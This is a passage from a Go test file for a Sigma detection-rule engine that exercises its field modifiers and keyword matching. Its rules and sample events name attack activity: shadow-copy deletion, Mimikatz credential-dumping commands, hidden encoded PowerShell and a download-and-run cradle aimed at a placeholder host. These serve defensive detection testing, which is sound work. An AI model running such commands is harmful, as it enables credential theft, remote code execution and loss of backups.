package sigma

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/bulwarkhq/bulwark/event"
)

// sel is a detection with one search "sel" holding one field condition,
// value given as YAML (flow style for lists).
func sel(key, value string) string {
	return "sel:\n    " + key + ": " + value + "\ncondition: sel\n"
}

// mcase is a detection and events it must and must not match.
type mcase struct {
	name   string
	det    string
	hit    []*event.Event
	miss   []*event.Event
	places map[string][]string // Options.Placeholders
}

func runCases(t *testing.T, cases []mcase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			rs := compileYAML(t, ruleDoc(c.det), Options{Placeholders: c.places})
			for _, f := range rs.Failed() {
				t.Fatalf("does not compile: %v\n%s", f.Err, c.det)
			}
			if len(rs.Compiled) == 0 {
				t.Fatal("no compiled branch")
			}
			for i, e := range c.hit {
				if !matchAny(rs, e) {
					t.Errorf("hit[%d] %v: no match, want one\n%s", i, e.Fields, c.det)
				}
			}
			for i, e := range c.miss {
				if matchAny(rs, e) {
					t.Errorf("miss[%d] %v: matched, want none\n%s", i, e.Fields, c.det)
				}
			}
		})
	}
}

func TestStringModifiers(t *testing.T) {
	runCases(t, []mcase{
		{name: "equals is whole-value and case-insensitive", det: sel("Image", `'C:\Windows\System32\cmd.exe'`),
			hit:  []*event.Event{ev("Image", `C:\Windows\System32\cmd.exe`), ev("Image", `c:\windows\system32\CMD.EXE`)},
			miss: []*event.Event{ev("Image", `C:\Windows\System32\cmd.exe `), ev("Image", `x`), ev("Other", `C:\Windows\System32\cmd.exe`), ev()}},
		{name: "contains", det: sel("CommandLine|contains", `'-EncodedCommand'`),
			hit:  []*event.Event{ev("CommandLine", "powershell -encodedcommand AAAA"), ev("CommandLine", "-ENCODEDCOMMAND")},
			miss: []*event.Event{ev("CommandLine", "powershell -enc AAAA"), ev("CommandLine", nil)}},
		{name: "startswith", det: sel("Image|startswith", `'C:\Users\'`),
			hit:  []*event.Event{ev("Image", `c:\users\bob\x.exe`), ev("Image", `C:\Users\`)},
			miss: []*event.Event{ev("Image", `D:\C:\Users\x.exe`)}},
		{name: "endswith", det: sel("Image|endswith", `'\rundll32.exe'`),
			hit:  []*event.Event{ev("Image", `C:\Windows\System32\RUNDLL32.EXE`)},
			miss: []*event.Event{ev("Image", `C:\rundll32.exe.bak`), ev("Image", `rundll32.exe`)}},
		{name: "list of values is OR", det: sel("Image|endswith", `['\a.exe', '\b.exe']`),
			hit:  []*event.Event{ev("Image", `x\a.exe`), ev("Image", `x\B.EXE`)},
			miss: []*event.Event{ev("Image", `x\c.exe`)}},
		{name: "contains all", det: sel("CommandLine|contains|all", `['vssadmin', 'delete', 'shadows']`),
			hit:  []*event.Event{ev("CommandLine", "vssadmin.exe Delete Shadows /all"), ev("CommandLine", "shadows delete vssadmin")},
			miss: []*event.Event{ev("CommandLine", "vssadmin list shadows"), ev("CommandLine", "")}},
		// Four or more contains values go through the Aho-Corasick set.
		{name: "contains all as a set", det: sel("CommandLine|contains|all", `['aa', 'bb', 'cc', 'dd', 'ee']`),
			hit:  []*event.Event{ev("CommandLine", "EE dd cc bb aa")},
			miss: []*event.Event{ev("CommandLine", "aa bb cc dd"), ev("CommandLine", nil)}},
		{name: "contains any as a set", det: sel("CommandLine|contains", `['aa', 'bb', 'cc', 'dd', 'ee']`),
			hit:  []*event.Event{ev("CommandLine", "xxDDxx")},
			miss: []*event.Event{ev("CommandLine", "abcde"), ev("CommandLine", nil)}},
		{name: "all on a list-valued field", det: sel("Tags|all", `['a', 'b']`),
			hit:  []*event.Event{ev("Tags", []any{"c", "B", "a"})},
			miss: []*event.Event{ev("Tags", []any{"a", "c"}), ev("Tags", []any{}), ev("Tags", "a")}},
		{name: "contains all on a list-valued field", det: sel("Args|contains|all", `['-nop', '-w hidden', 'iex', 'http']`),
			hit:  []*event.Event{ev("Args", []any{"powershell -nop", "-w hidden", "IEX(New-Object Net.WebClient).DownloadString('http://x')"})},
			miss: []*event.Event{ev("Args", []any{"powershell -nop", "-w hidden"})}},
		{name: "any on a list-valued field", det: sel("Tags", `['x', 'y']`),
			hit:  []*event.Event{ev("Tags", []any{"a", "Y"}), ev("Tags", []any{1, "x"})},
			miss: []*event.Event{ev("Tags", []any{"a", "b"}), ev("Tags", []any{"xy"})}},
		{name: "cased", det: sel("Name|cased", `'Foo'`),
			hit:  []*event.Event{ev("Name", "Foo")},
			miss: []*event.Event{ev("Name", "foo"), ev("Name", "FOO")}},
		{name: "cased contains", det: sel("Name|contains|cased", `'Bar'`),
			hit:  []*event.Event{ev("Name", "xBarx")},
			miss: []*event.Event{ev("Name", "xbarx")}},
		{name: "non-ASCII case folding", det: sel("User|contains", `'ПРИВЕТ'`),
			hit:  []*event.Event{ev("User", "сказал привет"), ev("User", "ПрИвЕт")},
			miss: []*event.Event{ev("User", "privet")}},
		{name: "non-ASCII equals", det: sel("Path", `'C:\Users\Jürgen\ÄÖÜ.txt'`),
			hit:  []*event.Event{ev("Path", `c:\users\JÜRGEN\äöü.TXT`)},
			miss: []*event.Event{ev("Path", `c:\users\jurgen\aou.txt`)}},
	})
}

func TestWildcardsAndEscapes(t *testing.T) {
	runCases(t, []mcase{
		{name: "star", det: sel("F", `'a*b'`),
			hit:  []*event.Event{ev("F", "ab"), ev("F", "aXYZb"), ev("F", "A*B")},
			miss: []*event.Event{ev("F", "abc"), ev("F", "cab")}},
		{name: "question mark is one character", det: sel("F", `'a?c'`),
			hit:  []*event.Event{ev("F", "abc"), ev("F", "a€c"), ev("F", "A?C")},
			miss: []*event.Event{ev("F", "ac"), ev("F", "abbc")}},
		{name: "question marks count characters not bytes", det: sel("F", `'*??'`),
			hit:  []*event.Event{ev("F", "ab"), ev("F", "€€"), ev("F", "x€")},
			miss: []*event.Event{ev("F", "€"), ev("F", "a")}},
		{name: "escaped star is literal", det: sel("F", `'a\*b'`),
			hit:  []*event.Event{ev("F", "a*b")},
			miss: []*event.Event{ev("F", "axb"), ev("F", `a\xb`), ev("F", `a\*b`)}},
		{name: "escaped question mark is literal", det: sel("F", `'what\?'`),
			hit:  []*event.Event{ev("F", "what?")},
			miss: []*event.Event{ev("F", "whatx")}},
		{name: "escaped backslash is one backslash", det: sel("F", `'a\\b'`),
			hit:  []*event.Event{ev("F", `a\b`)},
			miss: []*event.Event{ev("F", `a\\b`)}},
		{name: "escaped backslash then wildcard", det: sel("F", `'dir\\*'`),
			hit:  []*event.Event{ev("F", `dir\file`), ev("F", `dir\`)},
			miss: []*event.Event{ev("F", `dir*`)}},
		{name: "lone backslashes in Windows paths", det: sel("F", `'C:\Windows\Temp\x.exe'`),
			hit:  []*event.Event{ev("F", `C:\Windows\Temp\x.exe`)},
			miss: []*event.Event{ev("F", `C:\\Windows\\Temp\\x.exe`)}},
		{name: "trailing lone backslash", det: sel("F|startswith", `'C:\Windows\'`),
			hit:  []*event.Event{ev("F", `C:\Windows\x`)},
			miss: []*event.Event{ev("F", `C:\Windows`)}},
		{name: "wildcards inside contains", det: sel("F|contains", `'a*b?c'`),
			hit:  []*event.Event{ev("F", "zzaXXbYczz")},
			miss: []*event.Event{ev("F", "zzaXXbczz")}},
		{name: "escape inside contains", det: sel("F|contains", `'\*'`),
			hit:  []*event.Event{ev("F", "a*b")},
			miss: []*event.Event{ev("F", "ab")}},
		{name: "only stars", det: sel("F", `'**'`),
			hit:  []*event.Event{ev("F", ""), ev("F", "x")},
			miss: []*event.Event{ev("G", "x"), ev("F", nil)}},
	})
}

func TestNullEmptyNumbersBooleans(t *testing.T) {
	runCases(t, []mcase{
		{name: "null is absent, null or empty", det: sel("F", `null`),
			hit:  []*event.Event{ev(), ev("F", nil), ev("F", "")},
			miss: []*event.Event{ev("F", "x"), ev("F", 0)}},
		{name: "not null", det: "sel:\n    F: null\ncondition: not sel\n",
			hit:  []*event.Event{ev("F", "x")},
			miss: []*event.Event{ev("F", nil), ev()}},
		{name: "empty string", det: sel("F", `''`),
			hit:  []*event.Event{ev("F", "")},
			miss: []*event.Event{ev(), ev("F", "x")}},
		{name: "null in a list of values", det: sel("F", `[null, 'x']`),
			hit:  []*event.Event{ev(), ev("F", "X")},
			miss: []*event.Event{ev("F", "y")}},
		{name: "integer", det: sel("EventID", `4688`),
			hit:  []*event.Event{ev("EventID", 4688), ev("EventID", "4688")},
			miss: []*event.Event{ev("EventID", 46880), ev("EventID", "04688")}},
		{name: "hex integer keeps its text", det: sel("AccessMask", `0x1410`),
			hit:  []*event.Event{ev("AccessMask", event.Hex(0x1410)), ev("AccessMask", "0X1410")},
			miss: []*event.Event{ev("AccessMask", 5136)}},
		{name: "float", det: sel("F", `1.5`),
			hit:  []*event.Event{ev("F", 1.5), ev("F", "1.5")},
			miss: []*event.Event{ev("F", 15)}},
		{name: "boolean", det: sel("Enabled", `true`),
			hit:  []*event.Event{ev("Enabled", true), ev("Enabled", "True")},
			miss: []*event.Event{ev("Enabled", false), ev("Enabled", 1)}},
		{name: "quoted number is a string with wildcards", det: sel("F", `'12*'`),
			hit:  []*event.Event{ev("F", 123)},
			miss: []*event.Event{ev("F", 312)}},
		{name: "number list", det: sel("EventID", `[4624, 4625]`),
			hit:  []*event.Event{ev("EventID", 4625)},
			miss: []*event.Event{ev("EventID", 4626)}},
	})
}

func TestRegexModifier(t *testing.T) {
	runCases(t, []mcase{
		{name: "case-sensitive by default", det: sel("F|re", `'^abc$'`),
			hit:  []*event.Event{ev("F", "abc")},
			miss: []*event.Event{ev("F", "ABC"), ev("F", "abcd")}},
		{name: "i flag", det: sel("F|re|i", `'^abc$'`),
			hit:  []*event.Event{ev("F", "ABC"), ev("F", "aBc")},
			miss: []*event.Event{ev("F", "abcd")}},
		{name: "m flag", det: sel("F|re|m", `'^b$'`),
			hit:  []*event.Event{ev("F", "a\nb\nc")},
			miss: []*event.Event{ev("F", "a b c")}},
		{name: "without m", det: sel("F|re", `'^b$'`),
			miss: []*event.Event{ev("F", "a\nb\nc")}},
		{name: "s flag", det: sel("F|re|s", `'a.b'`),
			hit: []*event.Event{ev("F", "a\nb")}},
		{name: "without s", det: sel("F|re", `'a.b'`),
			hit:  []*event.Event{ev("F", "axb")},
			miss: []*event.Event{ev("F", "a\nb")}},
		{name: "flags combined", det: sel("F|re|i|m|s", `'^A.B$'`),
			hit: []*event.Event{ev("F", "x\na\nb\ny")}},
		{name: "unanchored", det: sel("F|re", `'[0-9]{3}-[0-9]{4}'`),
			hit:  []*event.Event{ev("F", "call 555-1234 now")},
			miss: []*event.Event{ev("F", "555 1234")}},
		{name: "on numbers", det: sel("F|re", `'^46[0-9]{2}$'`),
			hit:  []*event.Event{ev("F", 4688)},
			miss: []*event.Event{ev("F", 5688), ev("F", nil)}},
		{name: "on list elements", det: sel("F|re", `'^x[0-9]$'`),
			hit:  []*event.Event{ev("F", []any{"a", "x1"})},
			miss: []*event.Event{ev("F", []any{"a", "x10"})}},
		{name: "line run", det: sel("F|re", `'.{5,}'`),
			hit:  []*event.Event{ev("F", "ab\nabcde")},
			miss: []*event.Event{ev("F", "abcd\nabcd")}},
		// (?i)s also matches the long s, which lower-cases to itself: the
		// precheck must not require the lower-cased literal "powershell".
		{name: "i flag with case-fold variants", det: sel("F|re|i", `'powershell'`),
			hit: []*event.Event{ev("F", "POWERſHELL"), ev("F", "PowerShell")}},
	})
}

func TestCIDRModifier(t *testing.T) {
	runCases(t, []mcase{
		{name: "v4", det: sel("DestinationIp|cidr", `'10.0.0.0/8'`),
			hit:  []*event.Event{ev("DestinationIp", "10.1.2.3"), ev("DestinationIp", " 10.255.255.255 "), ev("DestinationIp", "::ffff:10.0.0.1")},
			miss: []*event.Event{ev("DestinationIp", "11.0.0.1"), ev("DestinationIp", "10.0.0"), ev("DestinationIp", "host"), ev("DestinationIp", nil), ev()}},
		{name: "v4 list", det: sel("DestinationIp|cidr", `['127.0.0.0/8', '192.168.0.0/16']`),
			hit:  []*event.Event{ev("DestinationIp", "192.168.4.4"), ev("DestinationIp", "127.0.0.1")},
			miss: []*event.Event{ev("DestinationIp", "172.16.0.1")}},
		{name: "unmasked network", det: sel("Ip|cidr", `'192.168.1.77/24'`),
			hit: []*event.Event{ev("Ip", "192.168.1.1")}},
		{name: "v6", det: sel("DestinationIp|cidr", `'fe80::/10'`),
			hit:  []*event.Event{ev("DestinationIp", "fe80::1"), ev("DestinationIp", "FE80::abcd:1%eth0"), ev("DestinationIp", "[fe80::2]")},
			miss: []*event.Event{ev("DestinationIp", "2001:db8::1"), ev("DestinationIp", "10.0.0.1")}},
		{name: "plain v4 address", det: sel("Ip|cidr", `'192.168.1.1'`),
			hit:  []*event.Event{ev("Ip", "192.168.1.1")},
			miss: []*event.Event{ev("Ip", "192.168.1.10")}},
		{name: "plain v6 address", det: sel("Ip|cidr", `'::1'`),
			hit:  []*event.Event{ev("Ip", "::1"), ev("Ip", "0:0:0:0:0:0:0:1")},
			miss: []*event.Event{ev("Ip", "::2")}},
		{name: "on a list-valued field", det: sel("Ips|cidr", `'10.0.0.0/8'`),
			hit:  []*event.Event{ev("Ips", []any{"8.8.8.8", "10.0.0.5"})},
			miss: []*event.Event{ev("Ips", []any{"8.8.8.8"})}},
	})
}

// b64 returns the base64 text of s.
func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// utf16le returns the UTF-16LE bytes of s.
func utf16le(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

func TestEncodingModifiers(t *testing.T) {
	runCases(t, []mcase{
		{name: "base64", det: sel("F|base64", `'hello'`),
			hit:  []*event.Event{ev("F", "aGVsbG8=")},
			miss: []*event.Event{ev("F", "xaGVsbG8=")}},
		{name: "base64 contains", det: sel("F|base64|contains", `'http://'`),
			hit:  []*event.Event{ev("F", "xx"+b64("http://")+"yy")},
			miss: []*event.Event{ev("F", b64("https://"))}},
		{name: "utf16le", det: sel("F|utf16le|contains", `'cmd'`),
			hit:  []*event.Event{ev("F", "\x00c\x00m\x00d\x00\x00"), ev("F", "C\x00M\x00D\x00")},
			miss: []*event.Event{ev("F", "cmd")}},
		{name: "utf16be", det: sel("F|utf16be|contains", `'cmd'`),
			hit:  []*event.Event{ev("F", "\x00c\x00m\x00d")},
			miss: []*event.Event{ev("F", "c\x00m\x00d\x00")}},
		{name: "utf16 has a byte order mark", det: sel("F|utf16|startswith", `'cmd'`),
			hit:  []*event.Event{ev("F", "\xff\xfec\x00m\x00d\x00 more")},
			miss: []*event.Event{ev("F", "c\x00m\x00d\x00")}},
		{name: "wide is utf16le", det: sel("F|wide", `'ab'`),
			hit: []*event.Event{ev("F", "a\x00b\x00")}},
	})
}

// TestBase64Offset checks the three encodings of base64offset against the
// value placed at every offset inside real base64 text, alone and after
// the UTF-16 modifiers, as SigmaHQ's encoded-PowerShell rules use them.
func TestBase64Offset(t *testing.T) {
	const value = "Invoke-Mimikatz"
	for _, tc := range []struct {
		mods   string
		encode func(string) string
	}{
		{"base64offset|contains", func(s string) string { return s }},
		{"utf16le|base64offset|contains", utf16le},
		{"wide|base64offset|contains", utf16le},
	} {
		rs := mustCompile(t, ruleDoc(sel("F|"+tc.mods, `'`+value+`'`)))
		for _, pre := range []string{"", "a", "ab", "abc", "powershell -c "} {
			for _, post := range []string{"", "z", "zz", " -DumpCreds"} {
				text := b64(tc.encode(pre + value + post))
				if !matchAny(rs, ev("F", "powershell -enc "+text)) {
					t.Errorf("%s: %q (base64 of %q) not matched", tc.mods, text, pre+value+post)
				}
			}
		}
		for _, other := range []string{"Invoke-Mimikat", "nvoke-Mimikatz", "Invoke-WebRequest"} {
			text := b64(tc.encode("x " + other + " y"))
			if matchAny(rs, ev("F", text)) {
				t.Errorf("%s: base64 of %q matched", tc.mods, other)
			}
		}
	}
	// The three variants, as pySigma renders them.
	got := base64Offsets("/c ")
	want := []string{"L2Mg", "9jI", "vYy"}
	if strings.Join(got, ",") != strings.Join(want, ",") {
		t.Errorf("base64Offsets(/c ) = %q, want %q", got, want)
	}
}

func TestWindashModifier(t *testing.T) {
	det := sel("CommandLine|windash|contains", `' -enc '`)
	runCases(t, []mcase{
		{name: "every dash", det: det,
			hit: []*event.Event{
				ev("CommandLine", "powershell -enc AAA"),
				ev("CommandLine", "powershell /enc AAA"),
				ev("CommandLine", "powershell \u2013enc AAA"), // en dash
				ev("CommandLine", "powershell \u2014enc AAA"), // em dash
				ev("CommandLine", "powershell \u2015enc AAA"), // horizontal bar
				ev("CommandLine", "POWERSHELL -ENC AAA"),
			},
			miss: []*event.Event{ev("CommandLine", "powershell +enc AAA"), ev("CommandLine", "powershell enc AAA"), ev("CommandLine", "powershell \u2012enc AAA")}},
		{name: "several dashes", det: sel("CommandLine|windash|contains|all", `['-a', '-b']`),
			hit:  []*event.Event{ev("CommandLine", "x /b /a"), ev("CommandLine", "x \u2014a -b")},
			miss: []*event.Event{ev("CommandLine", "x /a")}},
		{name: "with endswith", det: sel("CommandLine|endswith|windash", `' -s'`),
			hit:  []*event.Event{ev("CommandLine", "tool /s")},
			miss: []*event.Event{ev("CommandLine", "tool /s x")}},
	})
}

func TestExistsModifier(t *testing.T) {
	runCases(t, []mcase{
		{name: "true", det: sel("F|exists", `true`),
			hit:  []*event.Event{ev("F", "x"), ev("F", ""), ev("F", nil)},
			miss: []*event.Event{ev(), ev("G", "x")}},
		{name: "false", det: sel("F|exists", `false`),
			hit:  []*event.Event{ev(), ev("G", "x")},
			miss: []*event.Event{ev("F", "x"), ev("F", nil)}},
		{name: "with another condition", det: "sel:\n    F|exists: true\n    G: x\ncondition: sel\n",
			hit:  []*event.Event{ev("F", 1, "G", "X")},
			miss: []*event.Event{ev("G", "x")}},
	})
}

func TestFieldrefModifier(t *testing.T) {
	runCases(t, []mcase{
		{name: "equal", det: sel("TargetUserName|fieldref", `SubjectUserName`),
			hit:  []*event.Event{ev("TargetUserName", "Bob", "SubjectUserName", "bob")},
			miss: []*event.Event{ev("TargetUserName", "bob", "SubjectUserName", "alice"), ev("TargetUserName", "bob"), ev("SubjectUserName", "bob")}},
		{name: "cased", det: sel("A|fieldref|cased", `B`),
			hit:  []*event.Event{ev("A", "Bob", "B", "Bob")},
			miss: []*event.Event{ev("A", "Bob", "B", "bob")}},
		{name: "contains", det: sel("CommandLine|fieldref|contains", `Image`),
			hit:  []*event.Event{ev("CommandLine", `"C:\x\A.EXE" /c`, "Image", `c:\x\a.exe`)},
			miss: []*event.Event{ev("CommandLine", `b.exe /c`, "Image", `c:\x\a.exe`)}},
		{name: "startswith", det: sel("CommandLine|startswith|fieldref", `Image`),
			hit:  []*event.Event{ev("CommandLine", `c:\a.exe /c`, "Image", `C:\A.exe`)},
			miss: []*event.Event{ev("CommandLine", `x c:\a.exe`, "Image", `c:\a.exe`)}},
		{name: "endswith", det: sel("Path|endswith|fieldref", `Name`),
			hit:  []*event.Event{ev("Path", `c:\dir\evil.dll`, "Name", `evil.dll`)},
			miss: []*event.Event{ev("Path", `c:\evil.dll\x`, "Name", `evil.dll`)}},
		{name: "neq", det: sel("A|fieldref|neq", `B`),
			hit:  []*event.Event{ev("A", "x", "B", "y")},
			miss: []*event.Event{ev("A", "x", "B", "X"), ev("A", "x"), ev("B", "y")}},
		{name: "numbers", det: sel("A|fieldref", `B`),
			hit:  []*event.Event{ev("A", 5, "B", "5")},
			miss: []*event.Event{ev("A", 5, "B", 6)}},
	})
}

func TestNumericModifiers(t *testing.T) {
	runCases(t, []mcase{
		{name: "lt", det: sel("N|lt", `10`),
			hit:  []*event.Event{ev("N", 9), ev("N", -3), ev("N", 9.99), ev("N", "9"), ev("N", " 0x9 ")},
			miss: []*event.Event{ev("N", 10), ev("N", 11), ev("N", "ten"), ev("N", ""), ev("N", nil), ev()}},
		{name: "lte", det: sel("N|lte", `10`),
			hit:  []*event.Event{ev("N", 10), ev("N", "10.0")},
			miss: []*event.Event{ev("N", 10.5)}},
		{name: "gt", det: sel("N|gt", `1.5`),
			hit:  []*event.Event{ev("N", 2), ev("N", 1.51), ev("N", "1e3"), ev("N", uint64(1)<<63)},
			miss: []*event.Event{ev("N", 1.5), ev("N", 1), ev("N", "NaN")}},
		{name: "gte", det: sel("N|gte", `-2`),
			hit:  []*event.Event{ev("N", -2), ev("N", 0)},
			miss: []*event.Event{ev("N", -2.5)}},
		{name: "list is OR", det: sel("N|lt", `[1, 100]`),
			hit:  []*event.Event{ev("N", 50)},
			miss: []*event.Event{ev("N", 100)}},
		{name: "range via two fields", det: "sel:\n    N|gt: 1\nsel2:\n    N|lt: 5\ncondition: sel and sel2\n",
			hit:  []*event.Event{ev("N", 3)},
			miss: []*event.Event{ev("N", 5), ev("N", 1)}},
		{name: "on list elements", det: sel("N|gt", `100`),
			hit:  []*event.Event{ev("N", []any{1, 200})},
			miss: []*event.Event{ev("N", []any{1, 2})}},
		{name: "boolean as number", det: sel("N|gte", `1`),
			hit:  []*event.Event{ev("N", true)},
			miss: []*event.Event{ev("N", false)}},
	})
}

func TestNeqModifier(t *testing.T) {
	runCases(t, []mcase{
		{name: "string", det: sel("User|neq", `'SYSTEM'`),
			hit:  []*event.Event{ev("User", "bob")},
			miss: []*event.Event{ev("User", "system"), ev()}},
		{name: "list: none of the values", det: sel("User|neq", `['a', 'b']`),
			hit:  []*event.Event{ev("User", "c")},
			miss: []*event.Event{ev("User", "A"), ev("User", "b")}},
		{name: "number", det: sel("EventID|neq", `4688`),
			hit:  []*event.Event{ev("EventID", 1)},
			miss: []*event.Event{ev("EventID", 4688)}},
		{name: "with contains", det: sel("CommandLine|neq|contains", `'safe'`),
			hit:  []*event.Event{ev("CommandLine", "evil")},
			miss: []*event.Event{ev("CommandLine", "is SAFE")}},
	})
}

func TestExpandModifier(t *testing.T) {
	places := map[string][]string{"Admins": {"adm_*", "root"}, "Domain": {"CORP"}}
	runCases(t, []mcase{
		{name: "defined", det: sel("User|expand", `'%Admins%'`), places: places,
			hit:  []*event.Event{ev("User", "ADM_bob"), ev("User", "root")},
			miss: []*event.Event{ev("User", "bob"), ev("User", "%Admins%")}},
		{name: "inside text", det: sel("User|expand", `'%Domain%/%Admins%'`), places: places,
			hit:  []*event.Event{ev("User", `corp/adm_x`), ev("User", `CORP/root`)},
			miss: []*event.Event{ev("User", `other/root`)}},
		{name: "with contains", det: sel("CommandLine|contains|expand", `'net use %Domain%\'`), places: places,
			hit: []*event.Event{ev("CommandLine", `net use corp\share`)}},
		{name: "names with dashes", det: sel("TargetUserName|expand", `'%DC-MACHINE-NAME%'`), places: map[string][]string{"DC-MACHINE-NAME": {"DC01$"}},
			hit:  []*event.Event{ev("TargetUserName", "dc01$")},
			miss: []*event.Event{ev("TargetUserName", "%DC-MACHINE-NAME%")}},
		// A backslash right before a placeholder escapes it (pySigma's
		// (?<!\\)%name%), so DOMAIN\%user% cannot be written.
		{name: "backslash before a placeholder escapes it", det: sel("User|expand", `'%Domain%\%Admins%'`), places: places,
			hit:  []*event.Event{ev("User", `CORP%Admins%`)},
			miss: []*event.Event{ev("User", `CORP\root`)}},
		{name: "undefined stays literal", det: sel("CommandLine|expand|contains", `'%userdomain%\'`),
			hit:  []*event.Event{ev("CommandLine", `echo %USERDOMAIN%\x`)},
			miss: []*event.Event{ev("CommandLine", `echo CORP\x`)}},
		// The specification's example: \% is a plain percent sign.
		{name: "escaped percent", det: sel("F|expand", `'\%plain%Domain%'`), places: places,
			hit:  []*event.Event{ev("F", "%plainCORP")},
			miss: []*event.Event{ev("F", `\%plain%Domain%`), ev("F", `%plain%Domain%`)}},
		{name: "percent signs that are no placeholder", det: sel("F|expand", `'100% of %Domain%'`), places: places,
			hit: []*event.Event{ev("F", "100% of corp")}},
		{name: "without expand a placeholder is text", det: sel("User", `'%Admins%'`), places: places,
			hit:  []*event.Event{ev("User", "%admins%")},
			miss: []*event.Event{ev("User", "root")}},
	})
	rs := compileYAML(t, ruleDoc(sel("F|expand", `'%nosuch%'`)), Options{})
	if len(rs.Status) != 1 || len(rs.Status[0].Notes) == 0 || !strings.Contains(strings.Join(rs.Status[0].Notes, " "), "%nosuch%") {
		t.Errorf("undefined placeholder not noted: %+v", rs.Status)
	}
}

func TestTimeModifiers(t *testing.T) {
	const ts = "2024-02-29T23:45:06Z" // a Thursday, ISO week 9
	runCases(t, []mcase{
		{name: "minute", det: sel("T|minute", `45`), hit: []*event.Event{ev("T", ts)}, miss: []*event.Event{ev("T", "2024-02-29T23:46:06Z")}},
		{name: "hour", det: sel("T|hour", `23`), hit: []*event.Event{ev("T", ts), ev("T", "2024-02-29 23:00:00")}, miss: []*event.Event{ev("T", "2024-02-29T22:45:06Z")}},
		{name: "hour gte", det: sel("T|hour|gte", `22`), hit: []*event.Event{ev("T", ts)}, miss: []*event.Event{ev("T", "2024-02-29T08:00:00Z")}},
		{name: "hour lt list", det: sel("T|hour|lt", `[6]`), hit: []*event.Event{ev("T", "2024-02-29T05:59:59.999Z")}, miss: []*event.Event{ev("T", ts)}},
		{name: "day", det: sel("T|day", `29`), hit: []*event.Event{ev("T", ts)}},
		{name: "week", det: sel("T|week", `9`), hit: []*event.Event{ev("T", ts)}},
		{name: "month", det: sel("T|month", `2`), hit: []*event.Event{ev("T", ts)}},
		{name: "year", det: sel("T|year|gte", `2024`), hit: []*event.Event{ev("T", ts)}, miss: []*event.Event{ev("T", "2023-12-31T23:59:59Z")}},
		{name: "not a time", det: sel("T|hour", `0`), miss: []*event.Event{ev("T", "midnight"), ev("T", 0), ev()}},
		{name: "time zone offset kept", det: sel("T|hour", `1`), hit: []*event.Event{ev("T", "2024-01-01T01:00:00+05:00")}},
	})
}

func TestKeywords(t *testing.T) {
	runCases(t, []mcase{
		{name: "plain keywords are contains over every field", det: "keywords:\n    - 'sekurlsa::logonpasswords'\n    - 'lsadump::sam'\ncondition: keywords\n",
			hit:  []*event.Event{ev("A", "x", "CommandLine", "mimikatz SEKURLSA::LogonPasswords exit"), ev("Msg", "lsadump::sam")},
			miss: []*event.Event{ev("A", "sekurlsa"), ev()}},
		{name: "wildcards", det: "keywords:\n    - 'failed * for root'\ncondition: keywords\n",
			hit:  []*event.Event{ev("msg", "sshd: Failed password for root from 1.2.3.4")},
			miss: []*event.Event{ev("msg", "Failed password for bob")}},
		{name: "list-valued fields", det: "keywords:\n    - 'evil.exe'\ncondition: keywords\n",
			hit:  []*event.Event{ev("Data", []any{"a", "C:\\EVIL.EXE"})},
			miss: []*event.Event{ev("Data", []any{"a", "b"})}},
		{name: "numbers", det: "keywords:\n    - 4625\ncondition: keywords\n",
			hit: []*event.Event{ev("Code", 4625), ev("msg", "id 4625 seen")}},
		{name: "a single scalar", det: "keywords: 'mimikatz'\ncondition: keywords\n",
			hit: []*event.Event{ev("X", "run MimiKatz")}},
		{name: "all across fields", det: "keywords:\n    '|all':\n        - 'OabVirtualDirectory'\n        - ' -ExternalUrl '\ncondition: keywords\n",
			hit:  []*event.Event{ev("A", "Set-OabVirtualDirectory", "B", "x -externalurl y"), ev("A", "Set-OabVirtualDirectory -ExternalUrl http")},
			miss: []*event.Event{ev("A", "Set-OabVirtualDirectory")}},
		{name: "all as a set", det: "keywords:\n    '|all': ['aa', 'bb', 'cc', 'dd']\ncondition: keywords\n",
			hit:  []*event.Event{ev("A", "aa bb", "B", []any{"cc", "dd"})},
			miss: []*event.Event{ev("A", "aa bb", "B", []any{"cc"})}},
		{name: "many keywords as a set", det: "keywords: ['one', 'two', 'three', 'four', 'five']\ncondition: keywords\n",
			hit:  []*event.Event{ev("A", nil, "B", []any{"x", "FIVE"})},
			miss: []*event.Event{ev("A", "six")}},
		{name: "keywords and a field condition in one list", det: "sel:\n    - F: x\n    - 'needle'\ncondition: sel\n",
			hit:  []*event.Event{ev("F", "x"), ev("G", "a needle")},
			miss: []*event.Event{ev("F", "y")}},
		{name: "keyword with startswith", det: "keywords:\n    '|startswith': 'GET /admin'\ncondition: keywords\n",
			hit:  []*event.Event{ev("req", "get /admin/x")},
			miss: []*event.Event{ev("req", "x GET /admin")}},
	})
}

// TestModifierErrors checks that unknown and contradictory modifiers, and
// values a modifier cannot take, are rejected with a message that names
// the problem.
func TestModifierErrors(t *testing.T) {
	for _, tc := range []struct{ key, value, want string }{
		{"F|foo", `x`, `unknown modifier "foo"`},
		{"F|", `x`, `empty modifier`},
		{"F|startswith|endswith", `x`, `exclude each other`},
		{"F|contains|startswith", `x`, `exclude each other`},
		{"F|re|contains", `x`, `cannot be combined`},
		{"F|cidr|endswith", `'10.0.0.0/8'`, `cannot be combined`},
		{"F|re|cidr", `x`, `cannot be combined`},
		{"F|exists|contains", `true`, `cannot be combined`},
		{"F|lt|re", `1`, `cannot be combined`},
		{"F|base64|re", `x`, `cannot be combined`},
		{"F|lt|gt", `1`, `contradict`},
		{"F|hour|day", `1`, `contradict`},
		{"F|fieldref|re", `G`, `cannot be combined`},
		{"F|fieldref|cidr", `G`, `cannot be combined`},
		{"F|fieldref|lt", `G`, `cannot be combined`},
		{"F|fieldref|base64", `G`, `cannot be combined`},
		{"F|i", `x`, `flag of re`},
		{"F|exists", `'maybe'`, `exists needs true or false`},
		{"F|cidr", `'not-an-ip'`, `not an IP network`},
		{"F|re", `'(?<=x)y'`, `RE2`},
		{"F|re", `null`, `re needs`},
		{"F|lt", `'ten'`, `lt needs a number`},
		{"F|lt", `'5'`, `lt needs a number`},
		{"F|hour", `'x'`, `hour needs a number`},
		{"F|base64", `'a*'`, `plain value`},
		{"F|contains", `null`, `null cannot take string modifiers`},
		{"F|fieldref", `''`, `fieldref needs a field name`},
	} {
		t.Run(tc.key, func(t *testing.T) {
			err := compileErr(t, ruleDoc(sel(tc.key, tc.value)))
			if !strings.Contains(err.Error(), tc.want) {
				t.Errorf("error %q does not say %q", err, tc.want)
			}
